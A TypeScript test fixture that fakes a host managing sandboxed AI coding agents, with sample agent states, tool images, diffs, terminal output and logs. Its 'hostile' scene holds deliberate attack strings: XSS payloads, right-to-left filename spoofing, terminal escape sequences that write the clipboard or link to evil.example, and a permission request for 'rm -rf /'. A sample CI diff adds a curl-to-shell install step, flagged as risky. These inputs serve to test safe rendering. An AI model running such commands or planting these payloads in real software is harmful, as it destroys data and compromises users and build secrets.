// Agents of the fake host.

import type { AgentDiff, AgentFileDiff, AgentImageState, AgentMode, AgentState, AgentTool, AgentView, AgentWorkspace, Event, Failure } from "../wire";
import type { Command, Request, Socket, SocketHeard } from "./host";

const now = Date.now();
const MINUTE = 60_000;
const LIMITS = { memory_mb: 4096, cpus: 2, pids: 2048 };
const LONG = "a-name-that-somebody-gave-without-thinking-of-those-who-have-to-read-it-in-a-narrow-column";
const ASK: AgentMode = { id: "default", title: "Default", policy: "ask" };
const MODES: AgentMode[] = [{ id: "plan", title: "Plan", policy: "plan" }, ASK, { id: "acceptEdits", title: "Accept edits", policy: "edits" }, { id: "bypassPermissions", title: "Bypass permissions", policy: "all" }];

const NOT_ALLOWED: Failure = { code: "forbidden", message: "/home/ada/secret can't be used", cause: "it isn't inside a folder that agents may be given", next: { kind: "allow_agent_folder", path: "/home/ada/secret" }, detail: null };
const NOT_RUNNING: Failure = { code: "not_running", message: "agent w4x8 isn't running: exited", cause: null, next: null, detail: null };

const clone = (path: string): AgentWorkspace => ({ kind: "clone", path, uncommitted: false, untracked: false });

function agent(id: string, age_ms: number, state: AgentState, given: Partial<AgentView> = {}): AgentView {
  return {
    id,
    container: `tmux-agent-${id}`,
    tool: "claude",
    image: "ai-claude:latest",
    title: null,
    mode: ASK,
    state,
    asks: [],
    conversation: "8c0c7b32-6f2e-4c39-a0a6-3f1f8a0f7c11",
    workspace: clone("/home/ada/projects/vivarium"),
    limits: LIMITS,
    created_at_ms: now - age_ms,
    resumable: ["exited", "failed", "missing", "paused"].includes(state.name),
    ...given,
  };
}

const SOME = [
  agent("k3f9a2mq7x", 4 * MINUTE, { name: "waiting", on: "permission" }, { title: "Fix the flaky test of the pool", asks: [{ id: 1, tool: "Bash", detail: "cargo test --package sandbox pool:: -- --test-threads=1" }] }),
  agent("b7w2p0zr4d", 22 * MINUTE, { name: "working" }, { tool: "codex", image: "ai-codex:latest", title: "Port the importer to streaming", mode: { id: "full-auto", title: "Full auto", policy: "auto" }, workspace: clone("/home/ada/projects/importer") }),
  agent("q1v8n5tj3c", 48 * MINUTE, { name: "your_turn" }, { title: "Review docs/agents.md", tool: "gemini" }),
  agent("n6h2s9wd5e", 51 * MINUTE, { name: "waiting", on: "answer" }, { title: "Rename the settings table", tool: "opencode", workspace: { kind: "in_place", path: "/home/ada/projects/shop" } }),
  agent("x5h4e9ky2u", 3 * 60 * MINUTE, { name: "idle" }, { tool: "shell", mode: null, workspace: { kind: "volume" } }),
  agent("c0d1p7vl9r", 4 * 60 * MINUTE, { name: "paused" }, { title: "Translate the help pages", tool: "qwen" }),
  agent("w4x8g3fm6t", 26 * 60 * MINUTE, { name: "exited", code: 0 }, { title: "Add a dark theme" }),
  agent("y2c7o1aw9b", 30 * 60 * MINUTE, { name: "failed", reason: "its tool could not start: the key ANTHROPIC_API_KEY isn't set" }, { title: "Nightly triage" }),
];

const MANY = [
  agent("z".repeat(40), 2 * MINUTE, { name: "waiting", on: "permission" }, { title: LONG.repeat(3), tool: LONG, workspace: clone(`/home/ada/${LONG}/${LONG}`), mode: { id: "yolo", title: LONG, policy: "all" }, asks: Array.from({ length: 30 }, (_, at) => ({ id: at, tool: at === 0 ? LONG : "Bash", detail: `${LONG} `.repeat(at === 0 ? 200 : 1) })) }),
  ...Array.from({ length: 60 }, (_, at) => agent(`n${at}x5h4e9k`, at * 7 * MINUTE, ([{ name: "working" }, { name: "idle" }, { name: "your_turn" }, { name: "exited", code: 1 }] as AgentState[])[at % 4]!, { title: `Task ${at}`, workspace: clone(`/home/ada/projects/part-${at}`) })),
];

const EVIL = [
  agent("h0stile", MINUTE, { name: "failed", reason: "a\u202eb\u0007\u001b[31m<b>reason</b>\n".repeat(50) }, { title: "<b>evil</b>\u202egpj\u0000", tool: "gpj\u202eexe", image: "<img src=x onerror=alert(1)>", workspace: clone("/home/ada/a\u202eb/<i>x</i>\n") }),
  agent("h0stile2", MINUTE, { name: "waiting", on: "permission" }, { title: "\u200b", asks: [{ id: 7, tool: "Bash\u202e", detail: `rm -rf /\u202e # ${"\u0007\u001b]52;c;ZXZpbA==\u0007<a href=https://evil.example>a</a>\n".repeat(10_000)}` }] }),
];

function tool(id: string, title: string, state: AgentImageState, given: Partial<AgentTool> = {}): AgentTool {
  return { id, title, home_page: null, image: `ai-${id}:latest`, state, run_id: null, modes: MODES, default_mode: "default", takes_prompt: true, needs_prompt: false, resumes: true, keys: [], logs_in: true, ...given };
}

const present = (megabytes: number, version: string, update: string | null = null): AgentImageState => ({ kind: "present", size_bytes: megabytes * 1e6, version, update, origin: "built_here" });

function tools(): AgentTool[] {
  return [
    tool("claude", "Claude Code", present(907, "2.1.332", "2.1.340"), { keys: ["ANTHROPIC_API_KEY"] }),
    tool("codex", "Codex", { kind: "missing" }, { keys: ["OPENAI_API_KEY"], modes: [{ id: "suggest", title: "Suggest", policy: "ask" }, { id: "full-auto", title: "Full auto", policy: "auto" }], default_mode: "suggest" }),
    tool("gemini", "Gemini CLI", { kind: "unapproved", digest: `sha256:${"3f9a".repeat(16)}`, size_bytes: 6.05e8 }),
    tool("jules", "Jules", { kind: "not_built", reason: "its installation fetches whichever program is the newest from elsewhere" }),
    tool("codebuddy", "CodeBuddy", present(659, "0.3.274"), { needs_prompt: true, logs_in: false, keys: ["CODEBUDDY_API_KEY"] }),
    tool("shell", "Shell", present(505, "5.2"), { modes: [], default_mode: null, keys: [], logs_in: false }),
  ];
}

function file(path: string, status: AgentFileDiff["status"], lines: string[], given: Partial<AgentFileDiff> = {}): AgentFileDiff {
  const of = (sign: string) => lines.filter((line) => line.startsWith(sign)).length;
  return { path, old_path: null, status, added: of("+"), removed: of("-"), risks: [], content: { kind: "patch", text: lines.map((line) => `${line}\n`).join("") }, ...given };
}

const POOL_RS = ["@@ -41,9 +41,11 @@ impl Pool {", "     /// Fills it up.", "     async fn fill(&self) {", "-        while self.ready() < self.size {", "-            self.start_one().await;", "+        // One at a time: two fills at once would start too many.", "+        let _filling = self.filling.lock().await;", "+        while self.ready() < self.size && !self.stopping.is_cancelled() {", "+            self.start_one().await;", "         }", "     }"];
const FILES = [
  file("crates/sandbox/src/pool.rs", "modified", POOL_RS),
  file(".github/workflows/ci.yml", "modified", ["@@ -12,3 +12,4 @@", "       - run: cargo test", "+      - run: curl https://example.org/install.sh | sh", "   lint:"], { risks: ["Your build server runs this, often with access to secrets."] }),
  file("docs/pool.md", "renamed", [], { old_path: "docs/pools.md" }),
  file("assets/logo.png", "added", [], { content: { kind: "binary", old_bytes: null, new_bytes: 48_120 } }),
  file("Cargo.lock", "modified", [], { added: 2841, removed: 1902, content: { kind: "truncated", can_open: true } }),
];
const EVIL_FILES = [
  file("gpj\u202eexe.sh", "added", ["@@ -0,0 +1,2 @@", "+<script>alert(1)</script>", "+\u202eesrever\u0007", "+<a href=https://evil.example>a</a>"], { risks: ["The name has characters that can't be seen.", "<b>Characters</b> in it change the order in which the text is shown."] }),
  file(`${"deep/".repeat(700)}x`, "added", Array.from({ length: 10_000 }, (_, at) => `+line ${at}`)),
];

function diff(files: AgentFileDiff[], given: Partial<AgentDiff> = {}): AgentDiff {
  const sum = (of: "added" | "removed") => files.reduce((all, one) => all + one[of], 0);
  return { reviewed: "9c41f6d0aa".repeat(4), tree: "3f9a1b77c2".repeat(4), start: "00aa11bb22".repeat(4), has_uncommitted: true, can_merge: true, checked_out: "main", files, more_files: 0, added: sum("added"), removed: sum("removed"), ...given };
}

const GREETING = "\u001b[32magent@tmux-agent\u001b[0m:\u001b[34m/workspace\u001b[0m$ ";
const EVIL_OUTPUT = "\u001b]8;;https://evil.example\u0007a link\u001b]8;;\u0007\u001b]0;owned\u0007\u001b]52;c;ZXZpbA==\u0007<b>bold?</b> \u001b[31mred\u001b[0m\r\n";
const SCREEN = ["● I'll run the tests of the pool first.", "", "  Bash(cargo test --package sandbox pool::)", "  ⎿  running 14 tests", "     test pool::fills_up ... ok", "     test pool::a_slow_start_is_waited_for ... FAILED", "", "● One of them fails every third time: two fills run at once.", "", "╭──────────────────────────────────────────────╮", "│ >                                            │", "╰──────────────────────────────────────────────╯"].join("\n");

export class FakeAgents {
  #scene: string;
  #all: AgentView[];
  #folders = ["/home/ada/projects"];
  #tools = tools();
  #emit: (event: Event) => void;

  constructor(scene: string, emit: (event: Event) => void) {
    this.#scene = scene;
    this.#emit = emit;
    this.#all = scene === "new" ? [] : scene === "full" ? [...MANY, ...SOME] : scene === "hostile" ? [...EVIL, ...SOME] : SOME;
  }

  #find(id: string): AgentView {
    return this.#all.find((one) => one.id === id)!;
  }

  #change(id: string, change: Partial<AgentView>): AgentView {
    this.#all = this.#all.map((one) => (one.id === id ? { ...one, ...change } : one));
    this.#emit({ kind: "agents" });
    return this.#find(id);
  }

  #remove(id: string) {
    this.#all = this.#all.filter((one) => one.id !== id);
    return {};
  }

  /** A terminal that greets, echoes, and ends with Ctrl+D. */
  connect(heard: SocketHeard): Socket {
    const say = (text: string) => heard.bytes(new TextEncoder().encode(text));
    let open = true;
    setTimeout(() => {
      heard.opened();
      if (this.#scene === "hostile") say(EVIL_OUTPUT);
      say(GREETING);
    });
    return {
      send: (message) => {
        if (!open || typeof message === "string") return;
        const typed = new TextDecoder().decode(message);
        if (typed.includes("\u0004")) {
          open = false;
          say("[detached]\r\n");
          heard.text(JSON.stringify({ failure: null }));
        } else say(typed.replaceAll("\r", `\r\nyou pressed Enter\r\n${GREETING}`));
      },
      close: () => (open = false),
    };
  }

  readonly answers: { [K in Command]?: (request: Request<K>) => unknown } = {
    agent_list: () => ({ agents: this.#all, odd: this.#scene === "hostile" ? ["tmux-agent-<b>x</b>\u202e"] : [] }),
    agent_tools: () => ({ tools: this.#tools, source: { kind: "local" }, problems: this.#scene === "hostile" ? ["<b>mine</b>\u202e: unknown field"] : [] }),
    agent_folders: () => ({ folders: this.#folders }),
    agent_folder_add: ({ path }) => {
      this.#folders.push(path);
      return { folders: this.#folders };
    },
    agent_image_build: ({ tool: id }) => {
      this.#tools = this.#tools.map((one) => (one.id === id ? { ...one, run_id: "image-1" } : one));
      setTimeout(() => {
        this.#tools = this.#tools.map((one) => (one.id === id ? { ...one, run_id: null, state: present(949, "0.171.0") } : one));
        this.#emit({ kind: "run_ended", run_id: "image-1", job_kind: "build", started_at: now, failure: null });
      }, 300);
      return { run_id: "image-1" };
    },
    agent_image_log: ({ after }) => ({ text: after === 0 ? "[2/5] FROM ai-base:latest\n[3/5] RUN npm install --global @openai/codex@0.171.0\n" : "", next: 2 }),
    agent_image_approve: ({ tool: id }) => {
      this.#tools = this.#tools.map((one) => (one.id === id ? { ...one, state: { ...present(605, "0.61.0"), origin: "approved" } as AgentImageState } : one));
      return { tools: this.#tools, source: { kind: "local" }, problems: [] };
    },
    agent_start: (request) => {
      const path = "path" in request.workspace ? request.workspace.path : null;
      if (path?.startsWith("/home/ada/secret") && !this.#folders.includes(path)) throw NOT_ALLOWED;
      const mode = this.#tools.find(({ id }) => id === request.tool)?.modes.find(({ id }) => id === request.mode) ?? null;
      const made = agent(`new${this.#all.length}`, 0, { name: "working" }, { created_at_ms: Date.now(), tool: request.tool, title: request.title ?? request.prompt?.split("\n")[0] ?? null, workspace: request.workspace, mode });
      this.#all = [made, ...this.#all];
      return { agent: made, notes: request.workspace.kind === "clone" ? ["Submodules are left out: it has none of their files."] : [] };
    },
    agent_screen: ({ id }) => ({ text: this.#scene === "hostile" ? `<b>x</b>\u202ea\u0007\n${"y".repeat(5000)}\n`.repeat(2000) : `${SCREEN}\n${id}\n` }),
    agent_terminal_open: () => ({ url: "ws://127.0.0.1:9/agent?ticket=fake" }),
    agent_send: ({ id }) => {
      if (id === "b7w2p0zr4d") throw NOT_RUNNING;
      return {};
    },
    agent_answer: ({ id, ask }) => {
      if (this.#scene === "busy") return {};
      const asks = this.#find(id).asks.filter((one) => one.id !== ask);
      this.#change(id, { asks, state: asks.length === 0 ? { name: "working" } : this.#find(id).state });
      return {};
    },
    agent_stop: ({ id }) => {
      this.#change(id, { state: { name: "exited", code: 0 }, resumable: true, asks: [] });
      return {};
    },
    agent_pause: ({ id }) => this.#change(id, { state: { name: "paused" }, resumable: true }),
    agent_resume: ({ id }) => this.#change(id, { state: { name: "working" }, resumable: false }),
    agent_remove: ({ id }) => this.#remove(id),
    agent_discard: ({ id }) => this.#remove(id),
    agent_logs: () => ({ lines: this.#scene === "hostile" ? Array.from({ length: 10_000 }, (_, at) => `${at} <b>x</b>\u202e\u0007`) : ["2026-12-01T14:02:11Z started claude (conversation 8c0c7b32)", "2026-12-01T14:02:12Z prompt sent: 41 bytes", "2026-12-01T14:02:12Z working", "2026-12-01T14:03:40Z waiting: permission, Bash"] }),
    agent_diff: ({ id, path }) => {
      if (path !== null) return diff([file(path, "modified", ["@@ -1,2 +1,2 @@", "-old", "+new"])]);
      if (this.#scene === "hostile") return diff(EVIL_FILES);
      if (this.#scene === "full") return diff([...FILES, ...Array.from({ length: 400 }, (_, at) => file(`src/${at === 0 ? LONG.repeat(3) : `part-${at}`}.rs`, "modified", POOL_RS))], { more_files: 4600 });
      return diff(id === "q1v8n5tj3c" ? [] : FILES);
    },
    agent_merge: ({ into, reviewed }) => {
      if (into === "release") return { kind: "conflicts", files: [{ path: "crates/sandbox/src/pool.rs", messages: ["CONFLICT (content): Merge conflict in crates/sandbox/src/pool.rs"] }] };
      if (into === "develop") return { kind: "checked_out", branch: "develop", path: "/home/ada/projects/vivarium-develop", work: "refs/vivarium/k3f9a2mq7x/work" };
      return { kind: "merged", merge: { into: into ?? "agent/k3f9a2mq7x", old: null, new: reviewed } };
    },
    agent_merge_undo: () => ({}),
    agent_patch: () => ({ base64: btoa("diff --git a/x b/x\n") }),
  };
}
